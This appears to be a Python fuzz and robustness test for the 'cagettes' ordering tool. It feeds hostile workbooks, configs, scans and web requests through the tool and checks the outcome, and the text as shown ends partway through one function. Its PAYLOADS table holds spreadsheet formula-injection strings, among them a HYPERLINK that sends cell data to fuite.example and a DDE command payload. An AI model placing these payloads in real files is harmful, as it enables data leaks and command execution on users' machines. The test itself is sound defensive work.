"""The break-test of issue 15: hostile and unlucky inputs everywhere, and what still breaks.

    python bench/break_test.py [--seed N] [--catalogs N] [--requests N] [--scans N] [--configs N]
                               [--prints N] [--only catalogs,configs,scans,review,month] [--keep DIR]

Everything happens in a throwaway folder (``--keep DIR`` to keep it). The sample association is
initialised (``cagettes init``) with a small catalog (one site, 8 products, 3 members, one walk-in
form) so that a month prints in seconds, then:

- catalogs: hand-picked hostile workbooks (long unwrappable names, site codes as paths, formula
  injection, 28-digit prices, 40-code pictos, NUL bytes, RTL overrides, 0 products, formulas
  without saved values, broken files...), ``--catalogs`` workbooks with random cells set to
  random hostile values, and CSV catalogs (CR-only, UTF-16, binary, 128 KiB fields...), each
  through ``cagettes check``; ``--prints`` of those check accepts are opened and printed, and
  their pages looked at (ink on a tick box), their files (written outside ``output/``, a
  formula cell in a written workbook);
- configs: malformed ``cagettes.toml`` files through ``check`` (and ``month open`` + ``print
  posters`` for output folders outside the workspace: a folder's mode changed there is wrong);
- scans: a month opened and printed, then bad files (truncated, lying headers, 1x1, 3x70000,
  transparent, CMYK, 16-bit, animated, links, a FIFO, non-UTF-8 names...) and real printed
  pages in other formats put in the inbox and read by ``cagettes scan`` in a subprocess with a
  time limit: every file must end as a row of ``scanned_pages`` (rejected ones with a reason);
- review: the review page's Flask app, driven by its test client with ``--requests`` hostile and
  random requests: no 500, no traceback, the security headers on every answer, no redirection
  off the page, nothing decided without the key or the token;
- month: one month with injection payloads (``=HYPERLINK``, ``+``, ``-``, ``@``) from open to
  close (print, scan, close, documents, export, site): no formula cell in any written workbook,
  no member name on the public site; then a copy with damaged SQLite pages through status,
  export and close.

A traceback is a "Traceback" in any output, an exception out of ``cagettes.cli.main``, a 500
answer, a time limit reached, or exit code 3 (an unexpected fault, its details in
``incidents/``). Printed: per area, inputs tried, tracebacks, pages lost and wrong results (all
three must be 0), then each failing input with its one-line cause, grouped by cause.
"""
from __future__ import annotations

import argparse
import contextlib
import io
import json
import os
import random
import re
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import tempfile
import time
import traceback
from collections import defaultdict
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))  # run from a checkout without installing
sys.path.insert(0, str(Path(__file__).resolve().parent))

import break_inputs as bi
import numpy as np
import openpyxl

from cagettes.cli import main as cagettes

MONTH = "2026-12"
PYTHON = sys.executable
INK_BELOW = 170  # grey level under which a rendered pixel is ink (tests/test_print_overlap.py)
SURROUND_MM = 1.0
OUTLINE_MM = 0.6
RENDER_DPI = 150
SCAN_DPI = 200
EXCEPTION_LINE = re.compile(r"^[A-Za-z_][\w.]*(Error|Exception|Fault|Interrupt|Exit|Warning)\b")
REPO = str(Path(__file__).resolve().parent.parent)
WORKSPACE_FILES = ("cagettes.toml", "catalogue.xlsx", "templates", "scans")


class Hang(BaseException):
    """Raised by the alarm when an in-process command runs past its time limit."""


# ----------------------------------------------------------------------------- tallies

@dataclass
class Area:
    name: str
    tried: int = 0
    tracebacks: int = 0
    lost: int = 0
    wrong: int = 0
    failures: list[tuple[str, str, str]] = field(default_factory=list)  # (kind, input, cause)
    notes: list[str] = field(default_factory=list)

    def fail(self, kind: str, what: str, cause: str) -> None:
        if kind == "setup":  # not an input's fault: what the area needed could not be made (listed only)
            pass
        elif kind in ("traceback", "hang"):
            self.tracebacks += 1
        elif kind == "lost":
            self.lost += 1
        else:
            self.wrong += 1
        self.failures.append((kind, what, one_line(cause)))


def one_line(text: str, width: int = 200) -> str:
    line = " ".join(str(text).split())
    return line if len(line) <= width else line[: width - 1] + "…"


# ----------------------------------------------------------------------------- running cagettes

@dataclass
class Run:
    code: int | None  # None: no exit code (an exception, a time limit)
    output: str
    fault: str = ""  # "traceback" or "hang"
    cause: str = ""

    @property
    def ok(self) -> bool:
        return self.code == 0

    def first_line(self) -> str:
        return next((line for line in self.output.splitlines() if line.strip()), "")


def incident_cause(output: str) -> str:
    """The exception line of the incident file exit code 3 names."""
    match = re.search(r"(/\S*incident-[\w-]+\.txt)", output)
    if not match:
        return one_line(output)
    try:
        lines = [line for line in Path(match.group(1)).read_text(encoding="utf-8").splitlines() if line.strip()]
    except OSError:
        return one_line(output)
    frames = [line.strip() for line in lines if line.strip().startswith("File ")]
    ours = [f for f in frames if REPO in f and "/.venv/" not in f]
    where = (ours or frames or [""])[-1].replace(REPO + "/", "")
    raised = [line.strip() for line in lines if EXCEPTION_LINE.match(line.strip())]
    return f"{(raised or lines)[-1].strip()[:220]} [{where[:160]}]" if lines else one_line(output)


def judged(code: int | None, output: str, error: BaseException | None = None, hang: float | None = None) -> Run:
    if hang is not None:
        return Run(code, output, "hang", f"no answer after {hang:.0f} s; {one_line(output[-300:])}")
    if error is not None:
        frames = traceback.extract_tb(error.__traceback__)
        where = f"{frames[-1].filename}:{frames[-1].lineno}" if frames else ""
        return Run(None, output, "traceback", f"{type(error).__name__}: {error} [{where}] (out of cli.main)")
    if code == 3:
        return Run(code, output, "traceback", incident_cause(output))
    if "Traceback (most recent call last)" in output:
        tail = [line for line in output.split("Traceback (most recent call last)", 1)[1].splitlines() if line.strip()]
        return Run(code, output, "traceback", f"traceback printed: {tail[-1] if tail else ''}")
    if code == 2:
        return Run(code, output, "traceback", f"usage error (bench bug?): {one_line(output)}")
    return Run(code, output)


def cli(*argv: str, timeout: int = 120) -> Run:
    """``cagettes`` in this process, its output captured, with a time limit."""
    out = io.StringIO()

    def alarm(*_):
        raise Hang

    previous = signal.signal(signal.SIGALRM, alarm)
    signal.alarm(timeout)
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
            code = cagettes(list(argv))
    except Hang:
        return judged(None, out.getvalue(), hang=timeout)
    except BaseException as error:  # SystemExit too: main must return, never exit
        return judged(None, out.getvalue(), error)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    return judged(code, out.getvalue())


def cli_process(*argv: str, timeout: int, env: dict[str, str]) -> Run:
    """``python -m cagettes`` in a subprocess: for inputs that may hang or crash the interpreter."""
    process = subprocess.Popen([PYTHON, "-m", "cagettes", *argv], stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                               env=env, start_new_session=True)
    try:
        output, _ = process.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        output, _ = process.communicate()
        return judged(None, output.decode("utf-8", "replace"), hang=timeout)
    code = process.returncode
    text = output.decode("utf-8", "replace")
    if code < 0:
        return Run(code, text, "traceback", f"killed by signal {-code}: {one_line(text[-300:])}")
    return judged(code, text)


def must(run: Run, what: str) -> None:
    if not run.ok:
        raise SystemExit(f"setup failed: {what}: {run.cause or run.first_line()}\n{run.output[-2000:]}")


# ----------------------------------------------------------------------------- files and folders

def tree(root: Path) -> dict[str, int]:
    """Every path under ``root`` (links not followed) with its mode."""
    found = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = os.path.join(folder, name)
            with contextlib.suppress(OSError):
                found[path] = os.lstat(path).st_mode
    return found


def fresh_workspace(base: Path, where: Path, catalog: bytes | None = None) -> Path:
    """A copy of the base workspace's files (no database, no output) in ``where``."""
    where.mkdir(parents=True, exist_ok=True)
    for name in WORKSPACE_FILES:
        source = base / name
        if source.is_dir():
            shutil.copytree(source, where / name)
        else:
            shutil.copy2(source, where / name)
    if catalog is not None:
        (where / "catalogue.xlsx").write_bytes(catalog)
    return where


def outside_output(before: dict[str, int], after: dict[str, int], workspace: Path) -> list[str]:
    """Files that appeared outside the workspace's output folder, database, incidents and scans."""
    allowed = [str(workspace / name) for name in ("output", "incidents", "scans")] + [str(workspace / "cagettes.db")]
    system_tmp = tempfile.gettempdir() + os.sep  # WeasyPrint's caches, the fallback incidents folder
    new = [path for path in after if path not in before and not stat.S_ISDIR(after[path])
           and not path.startswith(system_tmp)]
    return [path for path in new if not any(path == a or path.startswith(a + os.sep) or path.startswith(a + "-")
                                            for a in allowed)]


def formula_cells(root: Path) -> list[str]:
    """Cells of written workbooks under ``root`` that hold a formula."""
    found = []
    for path in sorted(root.rglob("*.xlsx")):
        try:
            book = openpyxl.load_workbook(path, read_only=True)
        except Exception as error:  # a written workbook that cannot be read back is wrong too
            found.append(f"{path.name}: unreadable ({type(error).__name__})")
            continue
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if getattr(cell, "data_type", "") == "f":
                        found.append(f"{path.relative_to(root)}!{sheet.title}!{cell.coordinate}: {str(cell.value)[:60]}")
        book.close()
    return found


# ----------------------------------------------------------------------------- printed pages

def render(pdf: Path, index: int, dpi: int) -> np.ndarray:
    import pypdfium2

    document = pypdfium2.PdfDocument(str(pdf))
    try:
        bitmap = document[index].render(scale=dpi / 72, grayscale=True).to_numpy()
        return (bitmap[:, :, 0] if bitmap.ndim == 3 else bitmap).copy()
    finally:
        document.close()


def stray_ink(manifest: dict, month_dir: Path, limit: int = 40) -> dict[tuple[str, str], int]:
    """(layout, box or mark) -> pixels of ink inside or around it (its outline apart), per page layout."""
    def px(mm: float) -> int:
        return round(mm * RENDER_DPI / 25.4)

    found: dict[tuple[str, str], int] = {}
    for page in manifest["pages"][:limit]:
        layout = manifest["layouts"][page["layout"]]
        boxes = {b["id"]: b["rect"] for b in layout["boxes"] + page.get("extra_boxes", [])}
        solids = {f"mark-{k}": v for k, v in layout["marks"].items()} | {f"qr-{n}": v for n, v in enumerate(layout["qr"])}
        image = render(month_dir / page["pdf"], page["pdf_page"], RENDER_DPI)
        allowed = np.zeros(image.shape, dtype=bool)
        for x, y, w, h in list(boxes.values()) + list(solids.values()):
            allowed[px(y) - 1:px(y + h) + 1, px(x) - 1:px(x + w) + 1] = True
        for x, y, w, h in boxes.values():
            allowed[px(y + OUTLINE_MM) + 1:px(y + h - OUTLINE_MM) - 1, px(x + OUTLINE_MM) + 1:px(x + w - OUTLINE_MM) - 1] = False
        stray = (image < INK_BELOW) & ~allowed
        for name, (x, y, w, h) in (boxes | solids).items():
            hits = int(stray[max(0, px(y - SURROUND_MM)):px(y + h + SURROUND_MM),
                             max(0, px(x - SURROUND_MM)):px(x + w + SURROUND_MM)].sum())
            if hits:
                key = (page["layout"], name)
                found[key] = max(found.get(key, 0), hits)
    return found


def ink_summary(found: dict[tuple[str, str], int]) -> list[str]:
    """One line per page layout: its boxes with ink around them."""
    by_layout: dict[str, list[str]] = defaultdict(list)
    for (layout, name), hits in sorted(found.items()):
        by_layout[layout].append(f"{name} ({hits} px)")
    return [f"{layout}: ink on or within {SURROUND_MM:g} mm of {len(names)} boxes: {', '.join(names[:6])}"
            + (" …" if len(names) > 6 else "") for layout, names in by_layout.items()]


def printed_pages(workspace: Path, count: int, first_only: bool = False) -> list[np.ndarray]:
    """Up to ``count`` distinct printed pages of the month (``first_only``: each form's first),
    rendered by pdftoppm at 200 dpi, grey."""
    from PIL import Image

    month_dir = workspace / "output" / MONTH
    manifest = json.loads((month_dir / "private" / "manifest.json").read_text(encoding="utf-8"))
    pages = []
    out = workspace.parent / "rendered"
    out.mkdir(exist_ok=True)
    chosen = [p for p in manifest["pages"] if p["page"] == 1 or not first_only][:count]
    for n, page in enumerate(chosen):
        stem = out / f"p{n}"
        subprocess.run(["pdftoppm", "-r", str(SCAN_DPI), "-gray", "-png", "-singlefile", "-f", str(page["pdf_page"] + 1),
                        "-l", str(page["pdf_page"] + 1), str(month_dir / page["pdf"]), str(stem)], check=True,
                       timeout=120)
        pages.append(np.array(Image.open(f"{stem}.png").convert("L")))
    return pages


# ----------------------------------------------------------------------------- the base workspace

def base_workspace(tmp: Path) -> tuple[Path, bytes]:
    root = tmp / "base"
    must(cli("init", str(root)), "cagettes init")
    book = openpyxl.load_workbook(root / "catalogue.xlsx")
    bi.trim(book)
    book.save(root / "catalogue.xlsx")
    config = root / "cagettes.toml"
    config.write_text(re.sub(r"bons_libres_par_site = \d+", "bons_libres_par_site = 1",
                             config.read_text(encoding="utf-8")), encoding="utf-8")
    must(cli("-w", str(root), "check"), "check of the small sample catalog")
    return root, (root / "catalogue.xlsx").read_bytes()


def workbook_bytes(base: bytes, change: bi.Mutation | None, raw: Callable | None, path: Path) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(base))
    if change:
        change(book)
    out = io.BytesIO()
    book.save(out)
    data = out.getvalue()
    return raw(path, data) if raw else data


# ----------------------------------------------------------------------------- 1. catalogs

def catalogs_area(tmp: Path, base: Path, book: bytes, args, rng: random.Random) -> Area:
    area = Area("catalogs")
    checked = fresh_workspace(base, tmp / "cat" / "check")
    cases: list[tuple[str, bytes, bool]] = []
    for case in bi.hand_workbooks():
        try:
            cases.append((case.name, workbook_bytes(book, case.change, case.raw, checked / "catalogue.xlsx"), case.print_it))
        except Exception as error:
            area.notes.append(f"could not write {case.name}: {type(error).__name__}: {error}")
    for n in range(args.catalogs):
        marks: dict[str, bytes] = {}
        workbook = openpyxl.load_workbook(io.BytesIO(book))
        done = bi.random_workbook(rng, workbook, marks)
        out = io.BytesIO()
        try:
            workbook.save(out)
        except Exception as error:
            area.notes.append(f"could not write random #{n} ({done}): {type(error).__name__}")
            continue
        data = bi.raw_marks(marks)(checked / "catalogue.xlsx", out.getvalue()) if marks else out.getvalue()
        cases.append((f"random #{n}: {done}", data, False))
    accepted: list[tuple[str, bytes, bool]] = []
    started = time.perf_counter()
    for name, data, print_it in cases:
        (checked / "catalogue.xlsx").write_bytes(data)
        run = cli("-w", str(checked), "check", timeout=90)
        area.tried += 1
        if run.fault:
            area.fail(run.fault, f"workbook: {name}", run.cause)
        elif run.ok:
            accepted.append((name, data, print_it))
    area.notes.append(f"workbooks: {len(cases)} checked in {time.perf_counter() - started:.0f} s, "
                      f"{len(accepted)} accepted by check")
    hand = [name for name, _, _ in accepted if not name.startswith("random #")]
    area.notes.append(f"hand-picked workbooks check accepts ({len(hand)}): {'; '.join(hand)}")
    csv_area(area, tmp, base)
    to_print = [a for a in accepted if a[2]] + rng.sample([a for a in accepted if not a[2]],
                                                          min(len([a for a in accepted if not a[2]]), 2))
    to_print = to_print[: args.prints]
    control: dict[str, object] = {}
    for n, (name, data, _) in enumerate(to_print):
        print_catalog(area, tmp, base, f"print {n}", name, data, control)
    area.notes.append(f"printed {len(to_print)} accepted catalogs: " + "; ".join(one_line(a[0], 50) for a in to_print))
    return area


def csv_area(area: Area, tmp: Path, base: Path) -> None:
    from cagettes.services.workspace import copy_sample_csv

    sample = tmp / "cat" / "sample-csv"
    copy_sample_csv(sample)
    originals = {f.stem: f.read_bytes() for f in sample.glob("*.csv")}
    workspace = fresh_workspace(base, tmp / "cat" / "csv")
    config = workspace / "cagettes.toml"
    config.write_text(bi.set_key(config.read_text(encoding="utf-8"), "catalogue", "chemin", '"catalogue"'),
                      encoding="utf-8")
    env = subprocess_env(tmp)
    for case in bi.csv_cases():
        folder = workspace / "catalogue"
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir()
        for sheet, data in case.change(dict(originals)).items():
            if data is not None:
                (folder / f"{sheet}.csv").write_bytes(data)
        if case.special == "dir":
            (folder / "produits.csv").mkdir()
        elif case.special == "link":
            target = tmp / "cat" / "produits-elsewhere.csv"
            target.write_bytes(originals["produits"])
            (folder / "produits.csv").unlink()
            (folder / "produits.csv").symlink_to(target)
        elif case.special == "fifo":
            os.mkfifo(folder / "produits.csv")
        area.tried += 1
        if case.special == "fifo":  # reading a FIFO may wait forever: another process, a time limit
            run = cli_process("-w", str(workspace), "check", timeout=30, env=env)
        else:
            run = cli("-w", str(workspace), "check", timeout=90)
        if run.fault:
            area.fail(run.fault, f"csv: {case.name}", run.cause)


def print_catalog(area: Area, tmp: Path, base: Path, label: str, name: str, data: bytes, control: dict) -> None:
    """Open, print and close a month of an accepted catalog; look at its pages and files.
    ``control`` keeps what the first one (the sample) said when its print was refused."""
    workspace = fresh_workspace(base, tmp / "cat" / label.replace(" ", "-") / "a" / "b" / "ws", data)
    before = tree(tmp)
    area.tried += 1
    run = cli("-w", str(workspace), "month", "open", MONTH, timeout=120)
    if run.fault:
        area.fail(run.fault, f"month open of accepted workbook: {name}", run.cause)
        return
    if not run.ok:
        area.fail("wrong", f"month open of accepted workbook: {name}", f"check accepted it, month open refused: "
                  f"{run.first_line()}")
        return
    run = cli("-w", str(workspace), "print", timeout=400)
    said = one_line(run.output[-240:])
    if run.fault:
        area.fail(run.fault, f"print of accepted workbook: {name}", run.cause)
    elif not run.ok:
        # The sample's own print refused: the package is broken for every catalog, not for this one.
        kind = "setup" if control.setdefault("print", said) == said else "wrong"
        area.fail(kind, f"print of accepted workbook: {name}", f"check accepted it, print refused: {said}")
    else:
        control.setdefault("print", "")
    if run.ok:
        for step in (("month", "close", "--force"), ("export", "orders"), ("site",)):
            done = cli("-w", str(workspace), *step, timeout=300)
            if done.fault:
                area.fail(done.fault, f"{' '.join(step)} of accepted workbook: {name}", done.cause)
    for path in outside_output(before, tree(tmp), workspace):
        area.fail("wrong", f"print of accepted workbook: {name}", f"file written outside the output folder: {path}")
    month_dir = workspace / "output" / MONTH
    for cell in formula_cells(workspace / "output"):
        area.fail("wrong", f"print of accepted workbook: {name}", f"formula cell in a written workbook: {cell}")
    manifest_path = month_dir / "private" / "manifest.json"
    if run.ok and manifest_path.exists():
        manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
        found = stray_ink(manifest, month_dir)
        # The sample's own overlaps are said once, on the sample; another catalog's only beyond them.
        baseline = control.setdefault("ink", found)
        extra = found if baseline is found else {k: v for k, v in found.items() if k not in baseline}
        for fault in ink_summary(extra):
            area.fail("wrong", f"print of accepted workbook: {name}", f"box overlapped: {fault}")


# ----------------------------------------------------------------------------- 2. configurations

def configs_area(tmp: Path, base: Path, args) -> Area:
    area = Area("configs")
    sandbox = tmp / "outside"
    cases = bi.config_cases()[: args.configs]
    for n, case in enumerate(cases):
        workspace = fresh_workspace(base, tmp / "cfg" / f"{n:02d}" / "ws")
        content = case.change((base / "cagettes.toml").read_text(encoding="utf-8"), sandbox)
        path = workspace / "cagettes.toml"
        path.write_bytes(content) if isinstance(content, bytes) else path.write_text(content, encoding="utf-8")
        watched = {str(sandbox): os.stat(sandbox).st_mode, **tree(sandbox)}
        before = tree(tmp)
        area.tried += 1
        run = cli("-w", str(workspace), "check", timeout=60)
        runs = [("check", run)]
        if run.ok and case.open_month:
            runs.append(("month open", cli("-w", str(workspace), "month", "open", MONTH, timeout=120)))
            if runs[-1][1].ok:
                runs.append(("print posters", cli("-w", str(workspace), "print", "posters", timeout=300)))
        for command, done in runs:
            if done.fault:
                area.fail(done.fault, f"config: {case.name} ({command})", done.cause)
        after = {str(sandbox): os.stat(sandbox).st_mode, **tree(sandbox)}
        for where, mode in watched.items():
            if after.get(where, mode) != mode:
                area.fail("wrong", f"config: {case.name}", f"mode of {where} outside the workspace changed from "
                          f"{stat.S_IMODE(mode):o} to {stat.S_IMODE(after[where]):o}")
                os.chmod(where, stat.S_IMODE(mode))
        new_outside = [p for p in outside_output(before, tree(tmp), workspace)
                       if not p.startswith(str(sandbox / "existing") + os.sep)]  # the output folder asked for
        for where in new_outside[:5]:
            area.fail("wrong", f"config: {case.name}", f"file written outside the output folder: {where}")
    return area


# ----------------------------------------------------------------------------- 3. scans

def subprocess_env(tmp: Path) -> dict[str, str]:
    return {**os.environ, "TMPDIR": str(tmp / "systmp"), "PYTHONUNBUFFERED": "1"}


def printed_month(tmp: Path, base: Path, name: str, catalog: bytes | None = None) -> tuple[Path, Run]:
    workspace = fresh_workspace(base, tmp / name / "ws", catalog)
    run = cli("-w", str(workspace), "month", "open", MONTH, timeout=120)
    if run.ok:
        run = cli("-w", str(workspace), "print", "forms", timeout=400)
    return workspace, run


def dispose_engines() -> None:
    """Close the database connections this process's in-process commands left pooled, before
    another process writes the same SQLite file."""
    import gc

    import sqlalchemy as sa

    for thing in gc.get_objects():
        if isinstance(thing, sa.engine.Engine):
            thing.dispose()


def scan_rows(workspace: Path) -> list[dict]:
    database = workspace / "cagettes.db"
    with contextlib.closing(sqlite3.connect(database)) as conn:
        conn.row_factory = sqlite3.Row
        return [dict(r) for r in conn.execute("SELECT id, source, source_index, outcome, reason FROM scanned_pages")]


def stored(name: bytes) -> str:
    return name.replace(b"\\", b"\\x5c").decode("utf-8", "backslashreplace")


def first(files: list[bi.ScanFile], count: int, folder: Path) -> list[bi.ScanFile]:
    """The first ``count`` files; the others are taken out of ``folder``."""
    for file in files[count:]:
        (folder / os.fsdecode(file.name)).unlink()
    return files[:count]


def scans_area(tmp: Path, base: Path, args, rng: random.Random) -> tuple[Area, Path | None]:
    area = Area("scans")
    workspace, run = printed_month(tmp, base, "scan")
    if not run.ok:
        area.fail(run.fault or "setup", "setup: open and print the sample month to scan",
                  run.cause or one_line(run.output[-240:]))
        area.notes.append("scans not tried: the month could not be printed")
        return area, None
    pages = printed_pages(workspace, 26)
    inbox = workspace / "scans"
    outside = tmp / "outside-scans"
    outside.mkdir()
    env = subprocess_env(tmp)
    if os.geteuid() == 0:
        area.notes.append("run as root: a read-only inbox and a mode-000 file cannot be refused to us, not tried as such")
    groups = [("special", lambda: bi.special_scan_files(inbox, pages[0], outside)),
              ("bad", lambda: first(bi.bad_scan_files(inbox, pages[0], rng), args.scans, inbox)),
              ("real", lambda: bi.real_scan_files(inbox, pages, rng))]
    for group, write in groups:
        files = write()
        area.tried += len(files)
        dispose_engines()
        run = cli_process("-w", str(workspace), "scan", "--jobs", "2", timeout=600, env=env)
        if run.fault:
            area.fail(run.fault, f"cagettes scan of the {group} files", run.cause)
        summary = next((line for line in run.output.splitlines() if "pages lues" in line), run.output[-300:])
        area.notes.append(f"scan of the {group} files: exit {run.code}: {one_line(summary, 300)}")
        try:
            found_rows = scan_rows(workspace)
        except sqlite3.DatabaseError as error:  # seen while this process still held pooled connections
            area.notes.append(f"reading scanned_pages after the {group} files: {error}; read again")
            dispose_engines()
            time.sleep(2)
            found_rows = scan_rows(workspace)
        rows = defaultdict(list)
        for row in found_rows:
            rows[row["source"].rsplit("/", 1)[-1]].append(row)
        for file in files:
            found = rows.get(stored(file.name), [])
            if not file.needs_row:
                if found:
                    area.notes.append(f"{file.note}: {len(found)} row(s) ({found[0]['outcome']} {found[0]['reason']})")
                continue
            if len(found) < file.pages:
                area.fail("lost", f"{group} file {file.note}", f"{file.pages - len(found)} of {file.pages} page(s) "
                          f"in no row of scanned_pages")
            for row in found:
                if row["outcome"] not in ("accepted", "needs_review", "rejected"):
                    area.fail("wrong", f"{group} file {file.note}", f"outcome {row['outcome']!r}")
                elif row["outcome"] == "rejected" and not row["reason"]:
                    area.fail("wrong", f"{group} file {file.note}", "rejected without a reason")
                elif group == "real" and row["outcome"] == "rejected" and not file.name.endswith(b".webp"):
                    area.fail("wrong", f"real printed form {file.note}", f"a clean printed page rejected: "
                              f"{row['reason']}")
        outcomes = defaultdict(int)
        for file in files:
            for row in rows.get(stored(file.name), []):
                outcomes[row["outcome"], row["reason"]] += 1
        area.notes.append(f"{group}: {len(files)} files → " + ", ".join(f"{o}/{r or '-'} {n}" for (o, r), n
                                                                          in sorted(outcomes.items())))
    return area, workspace


# ----------------------------------------------------------------------------- 4. review page

def review_area(workspace: Path | None, args, rng: random.Random) -> Area:
    area = Area("review")
    if workspace is None:
        area.notes.append("review page not tried: no scanned month")
        return area
    import flask

    from cagettes.services import review as review_service
    from cagettes.storage import workspace as ws
    from cagettes.web.app import Settings, create_app

    opened = review_service.open_review(ws.open_workspace(workspace), MONTH)
    app = create_app(Settings(opened.review, opened.data, opened.pictures_dir, "la-cle"))
    errors: list[BaseException] = []
    flask.got_request_exception.connect(lambda sender, exception, **_: errors.append(exception), app, weak=False)
    app.logger.disabled = True
    app.config["PROPAGATE_EXCEPTIONS"] = True  # a view's exception reaches us whole (in production: a 500)
    keyed = app.test_client()
    assert keyed.get("/?cle=la-cle").status_code == 302
    with keyed.session_transaction() as session:
        token = session["csrf"]
    page_ids = sorted(r["id"] for r in scan_rows(workspace))
    requests = bi.fixed_requests(page_ids, [1, 2, 3])
    requests.append(bi.Request("POST", "/nom", {"name": "Samia"}))  # decisions need a volunteer's name
    for item in review_service.queue(opened.review)[:25]:  # real doubtful boxes: decided, then undone below
        for state in ("marked", "empty", "filled", "marked"):
            requests.append(bi.Request("POST", "/case", {"page": str(item.page), "box": item.box["id"], "state": state}))
        requests += [bi.Request("POST", f"/page/{item.page}/accepter", {}),
                     bi.Request("POST", f"/page/{item.page}/garder", {}),
                     bi.Request("GET", f"/case/{item.page}/{item.box['id']}.jpg"), bi.Request("GET", f"/page/{item.page}")]
    doubtful = [r["id"] for r in scan_rows(workspace) if r["outcome"] == "needs_review"]
    for page in doubtful[:15]:  # conflicts and unnamed pages: kept, accepted, refused, named
        requests += [bi.Request("POST", f"/page/{page}/garder", {}), bi.Request("POST", f"/page/{page}/accepter", {}),
                     bi.Request("POST", f"/page/{page}/identifier", {"identifier": "x", "printed": ""}),
                     bi.Request("POST", f"/page/{page}/refuser", {"reason": "Illisible"})]
    requests += [bi.Request("POST", f"/defaire/{n}", {}) for n in range(1, 40)]
    while len(requests) < args.requests:
        requests.append(bi.random_request(rng, page_ids))
    requests = requests[: max(args.requests, 1)]
    decisions_before = len(review_service.history(opened.review, limit=100_000))
    statuses: dict[int, int] = defaultdict(int)
    for request in requests:
        client = keyed if request.client == "keyed" else app.test_client()
        data = request.data
        if isinstance(data, dict):
            data = dict(data)
            if request.method != "GET":
                if request.token == "good":
                    data["csrf"] = token
                elif request.token == "bad":
                    data["csrf"] = "pas-le-bon"
        errors.clear()
        try:
            answer = client.open(request.path, method=request.method, data=data, headers=request.headers,
                                 content_type=request.content_type)
        except Exception as error:
            frames = traceback.extract_tb(error.__traceback__)
            ours = [f for f in frames if f.filename.startswith(REPO) and "/.venv/" not in f.filename
                    and not f.filename.endswith("break_test.py")]
            if errors or ours:
                area.tried += 1
                statuses[500] += 1
                where = f"{ours[-1].filename.replace(REPO + '/', '')}:{ours[-1].lineno}" if ours else ""
                area.fail("traceback", request.describe(), f"500 {type(error).__name__}: {error} [{where}]")
            else:
                area.notes.append(f"test client refused {request.describe()}: {type(error).__name__}")
            continue
        area.tried += 1
        statuses[answer.status_code] += 1
        body = answer.get_data()
        if answer.status_code >= 500 or errors:
            # The page files the traceback in incidents/ and names the file: its last line is the cause.
            cause = (f"{type(errors[0]).__name__}: {errors[0]}" if errors
                     else incident_cause(body.decode("utf-8", "replace")))
            frames = traceback.extract_tb(errors[0].__traceback__) if errors else []
            where = next((f"{f.filename.split('/work/main/')[-1]}:{f.lineno}" for f in reversed(frames)
                          if "/work/main/" in f.filename and "/.venv/" not in f.filename), "")
            area.fail("traceback", request.describe(), f"{answer.status_code} {cause} [{where}]")
        elif b"Traceback (most recent call last)" in body:
            area.fail("traceback", request.describe(), "a traceback in the answer's body")
        missing = [h for h in ("X-Frame-Options", "Content-Security-Policy") if h not in answer.headers]
        if missing:
            area.fail("wrong", request.describe(), f"answer {answer.status_code} without {', '.join(missing)}")
        location = answer.headers.get("Location", "")
        if location and (location.startswith("//") or "\\" in location
                         or (re.match(r"^[a-z]+:", location, re.I) and not location.startswith("http://localhost/"))):
            area.fail("wrong", request.describe(), f"redirected off the page: {location[:80]}")
        if b"<script>alert(1)</script>" in body and "html" in answer.content_type:
            area.fail("wrong", request.describe(), "unescaped <script> in the page")
        if request.client == "stranger" and answer.status_code == 200:
            area.fail("wrong", request.describe(), "answered a browser that never had the key")
        if request.token != "good" or request.client == "stranger":
            now = len(review_service.history(opened.review, limit=100_000))
            if now != decisions_before:
                area.fail("wrong", request.describe(), "a decision was recorded without the key or the token")
        decisions_before = len(review_service.history(opened.review, limit=100_000))
    area.notes.append(f"{len(page_ids)} scanned pages; answers by status: "
                      + ", ".join(f"{code} × {n}" for code, n in sorted(statuses.items()))
                      + f"; {decisions_before} decisions recorded")
    return area


# ----------------------------------------------------------------------------- 5. one month

PAYLOADS = {
    ("produits", 0, "nom"): '=HYPERLINK("http://fuite.example/?d="&A1,"Cliquez")',
    ("produits", 1, "unite"): "+1+1",
    ("produits", 2, "labo"): "\t=1+1",
    ("fournisseurs", 0, "nom"): "-1+1",
    ("sites", 0, "contact"): "=1+1",
    ("membres", 0, "nom"): "=cmd|' /C calc'!A0",
    ("membres", 1, "prenom"): "@SUM(A1:A9)",
}


def tick(image: np.ndarray, rect: list[float]) -> None:
    """A ballpoint tick in a box (tests/review_scans.py)."""
    import cv2

    x, y, w, h = (round(v * SCAN_DPI / 25.4) for v in rect)
    cv2.line(image, (x + w // 6, y + h // 2), (x + w // 2, y + h - h // 6), 30, 3)
    cv2.line(image, (x + w // 2, y + h - h // 6), (x + w - 2, y + 2), 30, 3)


def member_names(catalog: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(catalog), read_only=True)
    rows = list(book["membres"].iter_rows(min_row=2, values_only=True))
    return [str(v) for row in rows for v in row[1:3] if v and len(str(v)) > 2]


def month_area(tmp: Path, base: Path, book: bytes) -> Area:
    area = Area("month")
    checked = fresh_workspace(base, tmp / "month-check" / "ws")
    payloads = {}
    for where, value in PAYLOADS.items():  # each alone: check refuses some (a formula), the month gets the rest
        data = workbook_bytes(book, bi.cell(*where, value), None, checked / "catalogue.xlsx")
        (checked / "catalogue.xlsx").write_bytes(data)
        run = cli("-w", str(checked), "check")
        area.tried += 1
        if run.fault:
            area.fail(run.fault, f"injection catalog {value!r}: check", run.cause)
        elif run.ok:
            payloads[where] = value
        else:
            area.notes.append(f"check refuses {value!r} in {where[0]}.{where[2]}")
    if not payloads:
        return area
    data = workbook_bytes(book, bi.each(*[bi.cell(*w, v) for w, v in payloads.items()]), None, checked / "catalogue.xlsx")
    chosen = (payloads, data)
